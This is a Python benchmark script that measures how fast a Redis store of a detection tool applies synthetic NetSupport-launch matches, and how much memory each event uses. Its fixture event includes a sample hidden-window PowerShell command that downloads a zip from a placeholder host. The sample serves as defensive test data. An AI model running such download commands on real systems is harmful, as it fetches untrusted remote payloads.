"""Benchmark the Redis store: matched events applied per second, memory per event, 1 vs 2 processes.

Matches are built directly (decode+match is measured by bench_core): NetSupport launches on
``--devices`` devices, Timestamps spread over the last 4 days, the bundled rule, batches of
``--batch`` matches (one pipelined round trip each, as ``run`` does per source batch).

* apply rate from one process, and from two processes at once (separate key prefixes, so
  they do not contend on groups: the figure is Redis's and the client's capacity);
* ``used_memory`` growth per stored event, extrapolated to 1 million events in the window.

Needs a redis-server: ``RMMWATCH_TEST_REDIS_URL`` (``make bench`` starts one).

    python -m load.bench_redis [--events 200000] [--devices 20000] [--batch 500]
"""

from __future__ import annotations

import argparse
import asyncio
import multiprocessing
import os
import sys
import time
import uuid

import orjson
import redis.asyncio as aioredis

from rmmwatch.kql.datetimes import TICKS_PER_DAY, format_datetime
from rmmwatch.model import Match
from rmmwatch.rules import load_rules
from rmmwatch.stores.redis import RedisStore

TRIGGER = {
    "ActionType": "ProcessCreated",
    "FileName": "client32.exe",
    "FolderPath": "C:\\ProgramData\\SecurityCheck_v1\\client32.exe",
    "SHA1": "4f6b1c7e0d2a9b8c3e5f1a0d7c6b5a4e3d2c1b0a",
    "ProcessVersionInfoCompanyName": "NetSupport Ltd",
    "ProcessVersionInfoProductName": "NetSupport Remote Control",
    "ProcessVersionInfoOriginalFileName": "client32.exe",
    "ProcessCommandLine": '"C:\\ProgramData\\SecurityCheck_v1\\client32.exe" ',
    "ProcessId": 7312,
    "AccountDomain": "corp",
    "AccountName": "jdoe",
    "AccountUpn": "jdoe@corp.example",
    "InitiatingProcessFileName": "powershell.exe",
    "InitiatingProcessCommandLine": 'powershell.exe -w h -c "iwr hxxp://example.invalid/a.zip"',
    "InitiatingProcessParentFileName": "explorer.exe",
}


def _matches(count: int, devices: int, now: int, seed: int) -> list[Match]:
    import random

    rule = load_rules(["bundled:netsupport"])[0]
    rnd = random.Random(seed)
    out = []
    for i in range(count):
        device = f"{rnd.randrange(devices):040x}"
        name = f"host-{device[-6:]}.corp.example"
        ticks = now - rnd.randrange(4 * TICKS_PER_DAY)
        report = 10_000 + i
        group = (device, name)
        trigger = dict(TRIGGER, Timestamp=format_datetime(ticks), DeviceId=device, DeviceName=name, ReportId=report)
        out.append(
            Match(
                rule=rule,
                ticks=ticks,
                identity=orjson.dumps([device, name, ticks, report]).decode(),
                group=group,
                group_key=orjson.dumps(list(group)).decode(),
                contribution=(ticks, ticks, report, None),
                trigger=trigger,
            )
        )
    return out


async def _apply_all(url: str, prefix: str, matches: list[Match], batch: int, now: int) -> float:
    store = RedisStore(load_rules(["bundled:netsupport"]), url, prefix=prefix)
    await store.open()
    try:
        started = time.perf_counter()
        for i in range(0, len(matches), batch):
            result = await store.apply(matches[i : i + batch], now)
            if result.alerts:
                await store.mark_sent([a.key for a in result.alerts])
        return time.perf_counter() - started
    finally:
        await store.close()


def _worker(url: str, prefix: str, count: int, devices: int, batch: int, now: int, seed: int, queue: object) -> None:
    matches = _matches(count, devices, now, seed)
    seconds = asyncio.run(_apply_all(url, prefix, matches, batch, now))
    queue.put(seconds)  # type: ignore[attr-defined]


async def _used_memory(url: str) -> int:
    client = aioredis.from_url(url)
    try:
        info = await client.info("memory")
        return int(info["used_memory"])
    finally:
        await client.aclose()


async def _drop(url: str, prefix: str) -> None:
    client = aioredis.from_url(url)
    try:
        async for key in client.scan_iter(match=f"*{prefix}*", count=1000):
            await client.unlink(key)
    finally:
        await client.aclose()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=200_000)
    parser.add_argument(
        "--devices",
        type=int,
        nargs="+",
        default=[10_000, 1_000, 100],
        help="device populations to measure (events per group per batch grow as it shrinks)",
    )
    parser.add_argument("--batch", type=int, default=500)
    args = parser.parse_args()
    url = os.environ.get("RMMWATCH_TEST_REDIS_URL")
    if not url:
        sys.exit("RMMWATCH_TEST_REDIS_URL is not set: run `make bench` (it starts the services)")
    now = time.time_ns() // 100
    print(f"rmmwatch bench-redis: {args.events} matched events per run, batches of {args.batch}, one process")

    print(f"{'devices':>8} {'events/s':>10} {'bytes/event':>12} {'GiB/million':>12}")
    for devices in args.devices:
        prefix = f"bench-{uuid.uuid4().hex[:6]}"
        matches = _matches(args.events, devices, now, seed=1)
        before = asyncio.run(_used_memory(url))
        seconds = asyncio.run(_apply_all(url, prefix, matches, args.batch, now))
        after = asyncio.run(_used_memory(url))
        per_event = (after - before) / args.events
        print(f"{devices:8,} {args.events / seconds:10,.0f} {per_event:12,.0f} {per_event * 1e6 / 2**30:12.2f}")
        asyncio.run(_drop(url, prefix))

    devices = args.devices[-1]
    queue: multiprocessing.Queue[float] = multiprocessing.Queue()
    half = args.events // 2
    workers = [
        multiprocessing.Process(
            target=_worker, args=(url, f"bench-{uuid.uuid4().hex[:6]}", half, devices, args.batch, now, seed, queue)
        )
        for seed in (2, 3)
    ]
    started = time.perf_counter()
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    wall = time.perf_counter() - started
    each = [queue.get() for _ in workers]
    print(
        f"2 processes: {2 * half / max(each):10,.0f} matched events/s together ({max(each):.1f} s each; "
        f"{wall:.1f} s with start-up);"
    )


if __name__ == "__main__":
    main()
